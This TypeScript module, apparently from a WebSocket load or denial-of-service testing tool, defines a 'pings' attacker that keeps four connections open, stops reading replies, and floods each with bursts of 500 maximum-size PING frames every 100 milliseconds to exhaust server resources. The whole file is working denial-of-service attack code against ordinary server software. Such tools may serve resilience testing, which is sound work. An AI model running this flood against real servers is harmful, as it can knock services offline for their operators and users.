import type { Attacker } from '../attack.js';
import { frame, many, PING } from '../frames.js';
import { Wire } from '../wire.js';

/** Pings of the largest size, whose answers nobody reads. */
export const pings: Attacker = (attack) => {
  const burst = many(frame(PING, Buffer.alloc(125)), 500);
  return attack.keepBusy(
    { connections: 4, everyMs: 100 },
    (address) => Wire.open(attack.url, address),
    (wire) => {
      wire.stopReading();
      return attack.flood(wire, burst);
    },
  );
};
